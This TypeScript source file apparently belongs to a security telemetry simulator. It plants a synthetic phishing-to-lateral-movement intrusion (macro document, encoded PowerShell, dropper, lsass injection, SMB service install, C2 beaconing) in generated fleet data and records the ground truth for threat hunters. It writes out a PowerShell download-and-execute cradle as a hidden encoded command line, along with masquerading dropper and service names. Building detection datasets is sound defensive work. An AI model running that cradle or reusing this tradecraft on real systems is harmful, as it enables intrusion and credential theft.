/**
 * The attack story planted in each org, modelled on real intrusions (and on the Empire psexec
 * capture in the shared datasets): a phishing attachment lands through the mail client, Word opens
 * it, its macro starts an encoded PowerShell that fetches a dropper from a rare domain, runs it,
 * opens lsass and injects a thread into it, then copies the dropper to a second host over SMB and
 * starts it there as a service through the service control manager; both droppers then beacon to
 * the domain. Every step is an event on the clock, interleaved with the fleet's ordinary activity,
 * and every atom a hunter needs is recorded in the truth.
 */
import { containerBody, crossProcessBody } from '../events/threats';
import { documentBody, typeAccessBody } from '../events/files';
import { q } from '../events/json';
import { writeDns, writeFile, writeRegistry } from '../events/writers';
import { serviceBody } from '../events/sensor';
import type { Fleet, Host } from '../fleet/hosts';
import type { Org } from '../fleet/orgs';
import { randomHex } from '../ids';
import { adHocImage, type Image } from '../images';
import type { Program, ServiceDef } from '../platforms';
import { Prng } from '../prng';
import { accept, connect } from '../sim/network';
import { loadModule, programOf, spawn, terminate } from '../sim/processes';
import { type HostState, type Proc, scheduleStory, type World } from '../sim/state';
import type { AncestorRef, ConnectionRef, HostRef, ProcessRef, StoryTruth } from './truth';

const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const LURES = ['Invoice_4471', 'Payment_Advice_Q3', 'Updated_Salary_Review', 'Shipping_Documents', 'Contract_Amendment', 'Remittance_Details'];
const DROPPERS = ['msupdate.exe', 'OneDriveSync.exe', 'AdobeARMhelper.exe', 'winsvchelper.exe', 'WmiApSrvEx.exe', 'credsync.exe'];
const DROP_DIRS = ['MsUpdate', 'Adobe\\ARM', 'Intel\\Drivers', 'OfficeCache', 'Package Cache\\{hex}'];
const SERVICE_NAMES: readonly (readonly [string, string])[] = [
  ['WinUpdHelper', 'Windows Update Helper'],
  ['MsSyncSvc', 'Microsoft Sync Service'],
  ['AdobeUpdSvc', 'Adobe Update Service'],
  ['IntelTelemetry', 'Intel(R) Telemetry Service'],
];
const DOMAIN_WORDS = ['cdn', 'api', 'update', 'sync', 'telemetry', 'static', 'edge', 'login'];
const DOMAIN_BRANDS = ['msoffice', 'office365', 'azure', 'onedrive', 'windows', 'adobe', 'outlook'];
const TLDS = ['com', 'net', 'info', 'xyz', 'top', 'online'];
const BEACONS_PER_HOST = 8;

const DROPPER_PROGRAM: Program = { image: 'cmd', profile: 'quiet', rate: 0, modules: ['ws2_32', 'wininet', 'crypt32'] };

function hostRef(h: Host): HostRef {
  return { hostname: h.hostname, sid: h.sid, intIp: h.intIp };
}

function processRef(p: Proc): ProcessRef {
  return {
    atom: p.atom,
    hostname: p.state.host.hostname,
    sid: p.state.host.sid,
    filePath: p.image.path,
    commandLine: p.commandLine,
    sha256: p.image.hashes.sha256,
    parentAtom: p.parentAtom,
    parentSent: !p.parent?.withheld,
  };
}

/** Ancestors by routing.parent, nearest first, ending at the root or at the first parent never sent. */
export function ancestorsOf(p: Proc): AncestorRef[] {
  const out: AncestorRef[] = [];
  for (let cur = p; cur.parent && cur.parentAtom; cur = cur.parent) {
    const sent = !cur.parent.withheld;
    out.push({ atom: cur.parentAtom, filePath: cur.parent.image.path, sent });
    if (!sent) break;
  }
  return out;
}

/** Who a story happens to: chosen from the fleet alone, so every shard agrees on it (see sim/shards.ts). */
export interface StoryCast {
  readonly index: number;
  readonly org: Org;
  readonly victim: Host;
  readonly target: Host | null;
  /** Why the story stays on one host, when it does. */
  readonly skipped: string | null;
}

/** Victims and second hosts for `count` stories, one org after another. */
export function castStories(fleet: Fleet, count: number): StoryCast[] {
  const casts: StoryCast[] = [];
  for (let index = 0; index < count; index++) {
    const org = fleet.orgs[index % fleet.orgs.length] as Org;
    const round = Math.floor(index / fleet.orgs.length);
    const workstations = org.hosts.filter((h) => h.platform === 'windows' && h.role === 'workstation');
    const victim = workstations[round % workstations.length] as Host;
    // Servers first: lateral movement goes for them.
    const others = org.hosts.filter((h) => h.platform === 'windows' && h !== victim).sort((a, b) => (a.role === b.role ? a.ordinal - b.ordinal : a.role === 'server' ? -1 : 1));
    const target = others.length > 0 ? (others[round % others.length] as Host) : null;
    const skipped = target
      ? null
      : fleet.hosts.length < 2
        ? 'fewer than 2 hosts: the story stays on one host (no lateral movement)'
        : `org ${org.name} has no second Windows host: the story stays on one host (no lateral movement)`;
    casts.push({ index, org, victim, target, skipped });
  }
  return casts;
}

interface Plan {
  readonly index: number;
  readonly org: Org;
  readonly victim: HostState;
  readonly target: HostState | null;
  readonly skipped: string | null;
  /** Events generated before the story may start (a shard's stories spread over its budget). */
  readonly threshold: number;
}

/** Schedules the stories cast for this engine, spread over its budget. */
export function planStories(world: World, seed: string, casts: readonly StoryCast[], budget: number): LateralMovementStory[] {
  const stateOf = (h: Host) => world.states[h.index] as HostState;
  return casts.map((cast, k) => {
    const plan: Plan = {
      index: cast.index,
      org: cast.org,
      victim: stateOf(cast.victim),
      target: cast.target ? stateOf(cast.target) : null,
      skipped: cast.skipped,
      threshold: Math.floor(budget * (0.15 + (0.55 * (k + 0.5)) / casts.length)),
    };
    plan.victim.essential = true;
    if (plan.target) {
      plan.target.essential = true;
      // The service control manager that accepts the connection predates the capture, as on real
      // captures: its children's PARENT snapshots are all that describe it.
      plan.target.withhold.add('services');
    }
    const story = new LateralMovementStory(world, plan, new Prng(`atomgraph/${seed}`).fork(`story/${cast.index}`));
    story.schedule(world.options.start + cast.victim.bootOffset + 4 * 60_000 + story.rng.int(0, 60_000));
    return story;
  });
}

export class LateralMovementStory {
  private open = 0;
  private done = false;
  private startTime = 0;
  private endTime = 0;
  private readonly domain: string;
  private readonly c2: string;
  private readonly lure: string;
  private readonly docSha: string;
  private readonly dropperName: string;
  private readonly dropperPathA: string;
  private readonly dropperPathB: string;
  private readonly service: ServiceDef;
  private readonly dropperKey: string;
  private docPath = '';
  private explorer: Proc | null = null;
  private lsass: Proc | null = null;
  private word: Proc | null = null;
  private ps: Proc | null = null;
  private payload: Proc | null = null;
  private mailAtom = '';
  private fileCreateAtom = '';
  private newDocumentAtom = '';
  private ancestors: AncestorRef[] = [];
  private injection: StoryTruth['injection'] | null = null;
  private readonly connections: ConnectionRef[] = [];
  private readonly inbound: ConnectionRef[] = [];
  private droppedFileAtom = '';
  private readonly serviceAtoms: string[] = [];
  private readonly started: ProcessRef[] = [];
  private readonly resolvers = new Map<HostState, { processAtoms: string[]; dnsRequestAtoms: string[] }>();

  constructor(
    private readonly world: World,
    private readonly plan: Plan,
    readonly rng: Prng,
  ) {
    const rng_ = rng;
    this.domain = `${rng_.pick(DOMAIN_WORDS)}-${rng_.pick(DOMAIN_BRANDS)}${rng_.int(10, 99)}.${rng_.pick(TLDS)}`;
    // RFC 2544 benchmarking range: never a real command-and-control server.
    this.c2 = `198.18.${plan.index % 256}.${rng_.int(2, 254)}`;
    this.lure = rng_.pick(LURES);
    this.docSha = randomHex(rng_, 32);
    this.dropperName = rng_.pick(DROPPERS);
    const dir = rng_.pick(DROP_DIRS).replace('{hex}', `{${randomHex(rng_, 4).toUpperCase()}}`);
    this.dropperPathA = `C:\\ProgramData\\${dir}\\${this.dropperName}`;
    this.dropperPathB = `C:\\Windows\\${this.dropperName}`;
    const [name, display] = rng_.pick(SERVICE_NAMES);
    const svcName = `${name}${rng_.int(1, 9)}`;
    this.service = { name: svcName, display, type: 16, executable: `%SystemRoot%\\${this.dropperName}` };
    this.dropperKey = `atomgraph-dropper/${plan.org.oid}/${plan.index}/${this.dropperName}/${randomHex(rng_, 8)}`;
    world.pendingStories += 1;
  }

  get finished(): boolean {
    return this.done;
  }

  schedule(time: number): void {
    this.at(time, (t) => this.trigger(t));
  }

  /** Every step goes through here, so the story knows when its last step has run. */
  private at(time: number, step: (t: number) => void): void {
    this.open += 1;
    scheduleStory(this.world, time, (t) => {
      this.open -= 1;
      step(t);
      if (this.open === 0 && !this.done && this.startTime > 0) {
        this.done = true;
        this.endTime = t;
        this.world.pendingStories -= 1;
      }
    });
  }

  private jitter(ms: number): number {
    return Math.round(ms * (0.8 + 0.4 * this.rng.float()));
  }

  private get victimHost(): Host {
    return this.plan.victim.host;
  }

  private trigger(t: number): void {
    const { world, plan } = this;
    if (!world.draining && world.emitter.generated < plan.threshold) {
      this.at(t + this.jitter(45_000), (u) => this.trigger(u));
      return;
    }
    this.explorer = plan.victim.anchor('explorer') ?? null;
    this.lsass = plan.victim.anchor('lsass') ?? null;
    if (!this.explorer || !this.lsass) {
      this.at(t + 20_000, (u) => this.trigger(u));
      return;
    }
    this.startTime = t;
    this.deliver(t);
  }

  private deliver(t: number): void {
    const { world } = this;
    const victim = this.plan.victim;
    const host = this.victimHost;
    const explorer = this.explorer as Proc;
    const mail = victim.anchor('outlook') ?? spawn(world, victim, explorer, 'outlook', programOf(host, 'outlook'), t);
    this.mailAtom = mail.atom;
    this.docPath = `C:\\Users\\${host.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${randomHex(this.rng, 4).toUpperCase()}\\${this.lure}.docm`;
    const tw = t + 2_000;
    this.fileCreateAtom = writeFile(world.emitter, mail, 'FILE_CREATE', tw, q(this.docPath), true);
    this.newDocumentAtom = world.emitter.emitAtom(host, 'NEW_DOCUMENT', tw + 3, documentBody(mail, q(this.docPath), this.docSha, tw + 3), { parent: mail.atom });
    this.at(t + this.jitter(25_000), (u) => this.openDocument(u));
  }

  private openDocument(t: number): void {
    const { world } = this;
    const host = this.victimHost;
    const word = spawn(world, this.plan.victim, this.explorer as Proc, 'winword', programOf(host, 'winword'), t, {
      story: true,
      cmd: `"${OFFICE}\\WINWORD.EXE" /n "${this.docPath}" /o ""`,
      life: Infinity,
    });
    this.word = word;
    world.emitter.emit(host, 'FILE_TYPE_ACCESSED', t + 400, typeAccessBody(word, q(this.docPath), 3, t + 400), { parent: word.atom });
    loadModule(world, word, this.plan.victim.images.get('vbe7'), t + 650);
    this.at(t + this.jitter(15_000), (u) => this.runMacro(u));
  }

  private runMacro(t: number): void {
    const { world } = this;
    const victim = this.plan.victim;
    const host = this.victimHost;
    const script = `$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $c.DownloadString('https://${this.domain}/${randomHex(this.rng, 4)}/s.ps1')`;
    const encoded = Buffer.from(script, 'utf16le').toString('base64');
    const ps = spawn(world, victim, this.word as Proc, 'powershell', programOf(host, 'powershell'), t, {
      story: true,
      cmd: `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded}`,
      life: Infinity,
    });
    this.ps = ps;
    this.beacon(victim, ps, t + 1_500);
    writeFile(world.emitter, ps, 'FILE_CREATE', t + 5_500, q(this.dropperPathA));
    this.at(t + this.jitter(12_000), (u) => this.runDropper(u));
  }

  private dropperImage(path: string): Image {
    return adHocImage(this.dropperKey, path);
  }

  private runDropper(t: number): void {
    const victim = this.plan.victim;
    const payload = spawn(this.world, victim, this.ps as Proc, 'dropper', DROPPER_PROGRAM, t, {
      story: true,
      image: this.dropperImage(this.dropperPathA),
      cmd: `"${this.dropperPathA}" -k netsvc`,
      user: this.victimHost.userName,
      life: Infinity,
    });
    this.payload = payload;
    this.ancestors = ancestorsOf(payload);
    this.at(t + this.jitter(15_000), (u) => this.injectLsass(u));
  }

  private injectLsass(t: number): void {
    const { world } = this;
    const host = this.victimHost;
    const ps = this.ps as Proc;
    const lsass = this.lsass as Proc;
    const extra = { parent: ps.atom, target: lsass.atom };
    // LimaCharlie sends the handle and the thread on their own and again inside the containers.
    const handle = world.emitter.emitText(host, 'REMOTE_PROCESS_HANDLE', t, crossProcessBody(ps, lsass, t, '"ACCESS_FLAGS":2097151', true), extra);
    const thread = world.emitter.emitText(host, 'NEW_REMOTE_THREAD', t + 4, crossProcessBody(ps, lsass, t + 4, `"THREAD_ID":${4 * this.rng.int(500, 9000)}`, true), extra);
    const sensitive = world.emitter.emitAtom(host, 'SENSITIVE_PROCESS_ACCESS', t + 8, containerBody([handle.text]), extra);
    const injection = world.emitter.emitAtom(host, 'THREAD_INJECTION', t + 10, containerBody([handle.text, thread.text]), extra);
    this.injection = {
      sourceAtom: ps.atom,
      targetAtom: lsass.atom,
      targetFilePath: lsass.image.path,
      targetSent: !lsass.withheld,
      handleAtom: handle.atom,
      threadAtom: thread.atom,
      sensitiveAccessAtom: sensitive,
      threadInjectionAtom: injection,
    };
    loadModule(world, ps, this.plan.victim.images.get('samlib'), t + 1_500);
    loadModule(world, ps, this.plan.victim.images.get('vaultcli'), t + 1_620);
    if (this.plan.target) {
      this.at(t + this.jitter(30_000), (u) => this.moveLaterally(u));
    } else {
      this.at(t + this.jitter(20_000), (u) => this.cleanUp(u));
      this.beacons(this.plan.victim, this.payload as Proc, t + this.jitter(30_000), BEACONS_PER_HOST);
    }
  }

  private connectTo(ps: Proc, b: HostState, listener: Proc, t: number, port: number): void {
    const outbound = connect(this.world, ps, t, b.host.intIp, port, false, true);
    this.connections.push({ atom: ps.lastConnectionAtom, port, processAtom: ps.atom, processSent: !ps.withheld });
    accept(this.world, listener, t + 3, this.victimHost.intIp, port, true, outbound.srcPort);
    this.inbound.push({ atom: listener.lastConnectionAtom, port, processAtom: listener.atom, processSent: !listener.withheld });
  }

  private moveLaterally(t: number): void {
    const { world } = this;
    const b = this.plan.target as HostState;
    const system = b.anchor(b.host.model.root);
    const services = b.anchor('services');
    if (!system || !services) {
      // The second host is not up yet.
      this.at(t + 20_000, (u) => this.moveLaterally(u));
      return;
    }
    const ps = this.ps as Proc;
    // SMB: the dropper is written to ADMIN$ (C:\Windows) by the kernel's SMB server.
    this.connectTo(ps, b, system, t, 445);
    this.droppedFileAtom = writeFile(world.emitter, system, 'FILE_CREATE', t + 800, q(this.dropperPathB), true);
    // RPC endpoint mapper, then the service control manager on its dynamic port.
    this.connectTo(ps, b, b.anchor('svchost-rpcss') ?? services, t + 2_500, 135);
    const t3 = t + 2_900;
    this.connectTo(ps, b, services, t3, 49668);
    const key = `\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\${this.service.name}`;
    writeRegistry(world.emitter, services, 'REGISTRY_CREATE', t3 + 200, q(key), b.host.rng);
    writeRegistry(world.emitter, services, 'REGISTRY_WRITE', t3 + 210, q(`${key}\\ImagePath`), b.host.rng);
    this.serviceAtoms.push(world.emitter.emitAtom(b.host, 'SERVICE_CHANGE', t3 + 300, serviceBody(this.service, 1, 0, t3 + 300, this.dropperImage(this.dropperPathB).hashes.sha256)));
    this.at(t3 + this.jitter(1_500), (u) => this.startService(u));
  }

  private startService(t: number): void {
    const { world } = this;
    const b = this.plan.target as HostState;
    const services = b.anchor('services') as Proc;
    const remote = spawn(world, b, services, 'dropper', DROPPER_PROGRAM, t, {
      story: true,
      image: this.dropperImage(this.dropperPathB),
      cmd: this.dropperPathB,
      user: b.host.model.systemAccount,
      life: Infinity,
    });
    this.serviceAtoms.push(world.emitter.emitAtom(b.host, 'SERVICE_CHANGE', t + 300, serviceBody(this.service, 4, remote.pid, t + 300, remote.image.hashes.sha256)));
    this.started.push(processRef(remote));
    this.at(t + this.jitter(10_000), (u) => this.cleanUp(u));
    this.beacons(this.plan.victim, this.payload as Proc, t + this.jitter(20_000), BEACONS_PER_HOST);
    this.beacons(b, remote, t + this.jitter(25_000), BEACONS_PER_HOST);
  }

  /** PowerShell exits (its network summary lists the C2 and the second host), then Word closes. */
  private cleanUp(t: number): void {
    terminate(this.world, this.ps as Proc, t);
    this.at(t + this.jitter(30_000), (u) => terminate(this.world, this.word as Proc, u));
  }

  private beacon(state: HostState, p: Proc, t: number): void {
    const host = state.host;
    const atom = writeDns(this.world.emitter, p, this.domain, this.c2, host.rng.below(65536), t, true);
    let seen = this.resolvers.get(state);
    if (!seen) {
      seen = { processAtoms: [], dnsRequestAtoms: [] };
      this.resolvers.set(state, seen);
    }
    if (!seen.processAtoms.includes(p.atom)) seen.processAtoms.push(p.atom);
    seen.dnsRequestAtoms.push(atom);
    connect(this.world, p, t + 150, this.c2, 443);
  }

  /** Beaconing: a lookup and a connection about every minute, with jitter. */
  private beacons(state: HostState, p: Proc, t: number, left: number): void {
    this.at(t, (u) => {
      this.beacon(state, p, u);
      if (left > 1) this.beacons(state, p, u + this.jitter(60_000), left - 1);
    });
  }

  truth(): StoryTruth {
    const { plan } = this;
    if (!this.done || !this.word || !this.ps || !this.payload || !this.injection) {
      throw new Error(`story ${plan.index} has not finished: read the truth after the generated stream has ended`);
    }
    const victim = this.victimHost;
    const b = plan.target?.host;
    const payload = processRef(this.payload);
    return {
      id: `story-${plan.index + 1}`,
      kind: 'phishing-to-lateral-movement',
      org: { name: plan.org.name, oid: plan.org.oid },
      victim: hostRef(victim),
      document: { path: this.docPath, sha256: this.docSha, newDocumentAtom: this.newDocumentAtom, fileCreateAtom: this.fileCreateAtom },
      processes: { mailClient: this.mailAtom, word: processRef(this.word), powershell: processRef(this.ps), payload },
      ancestors: this.ancestors,
      injection: this.injection,
      dropper: {
        sha256: this.payload.image.hashes.sha256,
        md5: this.payload.image.hashes.md5,
        sha1: this.payload.image.hashes.sha1,
        fileName: this.dropperName,
        hosts: b ? [hostRef(victim), hostRef(b)] : [hostRef(victim)],
      },
      lateral: b
        ? {
            source: hostRef(victim),
            destination: hostRef(b),
            connections: this.connections,
            inbound: this.inbound,
            droppedFile: { path: this.dropperPathB, fileCreateAtom: this.droppedFileAtom },
            service: { name: this.service.name, displayName: this.service.display, executable: this.service.executable, changeAtoms: this.serviceAtoms },
            startedProcesses: this.started,
            clockSkewMs: { source: this.world.emitter.skewOf(victim), destination: this.world.emitter.skewOf(b) },
          }
        : null,
      lateralSkipped: plan.skipped,
      beacon: {
        domain: this.domain,
        ip: this.c2,
        resolvers: [...this.resolvers].map(([state, seen]) => ({ host: hostRef(state.host), processAtoms: seen.processAtoms, dnsRequestAtoms: seen.dnsRequestAtoms })),
      },
      startTime: this.startTime,
      endTime: this.endTime,
    };
  }
}
